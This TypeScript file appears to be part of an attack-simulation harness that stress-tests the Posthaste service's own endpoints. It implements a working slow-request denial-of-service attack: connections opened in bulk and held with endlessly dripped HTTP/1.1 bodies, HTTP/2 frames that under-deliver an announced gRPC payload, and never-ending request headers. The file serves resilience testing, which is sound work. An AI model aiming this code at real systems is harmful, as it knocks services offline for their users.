import type { Socket } from "node:net";
import { data, headers, preface } from "@posthaste/testkit/http2-frames";
import { type Attack, every, type StrikeContext } from "../strike.ts";
import { rpcHead } from "./routes.ts";

/** Each open body gets a byte this often. */
const BYTE_EVERY_MS = 250;
/** New bodies: 100 a second. */
const BEGUN_EACH_TIME = 25;
const INGEST = "/posthaste.v1.EventIngestService/IngestEvent";
const SIGN_IN = "/posthaste.v1.SessionService/OpenSession";

/** Sends one more byte of a body. */
type Body = () => void;

/** Bodies that never end: as many as the hostile account may have, and as many as anybody without a token. */
export const slowBodies: Attack = async (strike) => {
  const bodies: { readonly socket: Socket; readonly drip: Body }[] = [];
  for await (const _ of every(BYTE_EVERY_MS, strike.signal)) {
    for (const { socket, drip } of bodies) if (socket.writable) drip();
    for (let n = 0; n < BEGUN_EACH_TIME; n++) {
      const socket = strike.open();
      if (socket === undefined) break;
      strike.tally.requests += 1;
      const begin = strike.random.pick([overHttp1, overHttp2, headOnly]);
      bodies.push({ socket, drip: begin(socket, strike) });
    }
  }
};

function overHttp1(socket: Socket, { random, target }: StrikeContext): Body {
  const [path, token] = random.pick([
    [INGEST, target.token],
    [INGEST, target.token],
    [SIGN_IN, ""],
  ]);
  const lines = [
    `POST ${path} HTTP/1.1`,
    "host: a",
    "content-type: application/json",
    "content-length: 900000",
  ];
  if (token !== "") lines.push(`authorization: Bearer ${token}`);
  socket.write(`${lines.join("\r\n")}\r\n\r\n{`);
  return () => void socket.write(" ");
}

function overHttp2(socket: Socket, { random, target }: StrikeContext): Body {
  const head = random.pick([rpcHead(INGEST, target.token), rpcHead(SIGN_IN)]);
  // The envelope announces more than ever comes.
  const announced = Buffer.from([0, 0, 0, 255, 255]);
  socket.write(Buffer.concat([preface(), headers(1, head, false), data(1, announced)]));
  return () => void socket.write(data(1, Buffer.from([0])));
}

/** A head that never ends. */
function headOnly(socket: Socket): Body {
  socket.write("GET /api/docs HTTP/1.1\r\nhost: a\r\nx: ");
  return () => void socket.write("y");
}
